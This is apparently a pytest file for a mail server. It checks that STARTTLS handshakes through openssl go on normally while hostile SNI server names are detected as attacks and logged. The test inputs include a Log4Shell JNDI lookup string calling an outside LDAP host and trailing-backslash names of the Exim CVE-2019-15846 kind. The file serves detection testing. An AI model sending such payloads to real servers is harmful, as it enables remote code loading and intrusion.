"""Server names that openssl asks the running service for in STARTTLS: attacks are found, and every handshake
goes on as before.
"""

import json
import subprocess
from pathlib import Path

import pytest

from tests.crash.postoffice import PostOffice
from tests.service.conftest import MakeOffice
from tests.service.test_hard_times import until
from tests.world.certificates import make_pair

NAME = "mx2.example.net"


def shaken(office: PostOffice, server_name: str, version: str) -> str:
    """What openssl says of a handshake in which it asks for `server_name`."""
    words = ("openssl", "s_client", "-starttls", "smtp", "-connect", f"127.0.0.1:{office.port}", version)
    ran = subprocess.run(
        (*words, "-ign_eof", "-servername", server_name),
        input=b"quit\r\n",
        capture_output=True,
        timeout=20,
        check=False,
    )
    return ran.stdout.decode()


@pytest.mark.parametrize("version", ["-tls1_2", "-tls1_3"])
def test_a_server_name_that_attacks_is_found_and_answered_as_any(
    make_office: MakeOffice, tmp_path: Path, version: str
) -> None:
    pair = make_pair(tmp_path, NAME)
    tls = f'[tls]\ncertificate = "{pair.certificate}"\nkey = "{pair.key}"\n\n[metrics]'
    # Nothing is counted against a primary, so it has another address than the client.
    office = make_office({"[metrics]": tls, 'primary    = ["127.0.0.1': 'primary    = ["127.0.0.2'})
    office.start()
    for name in (NAME, f"{NAME}\\", "\\", "ü.example", "a b", "${jndi:ldap://x.example/a}", "x" * 255):
        said = shaken(office, name, version)
        assert f"subject=CN = {NAME}" in said, name
        assert "Cipher is (NONE)" not in said, name
        assert "221 " in said, "the session goes on in TLS"
    until("both are in the log", lambda: office.log.read_text().count(" place=server-name ") == 3)

    def stored() -> dict[str, int]:
        found = json.loads(office.command("watch", "attacks", "--json"))["attacks"]
        return {one["rule"]: one["times"] for one in found}

    expected = {"exim-2019-15846": 2, "log4shell": 1}
    until("they are stored", lambda: stored() == expected, 15.0)
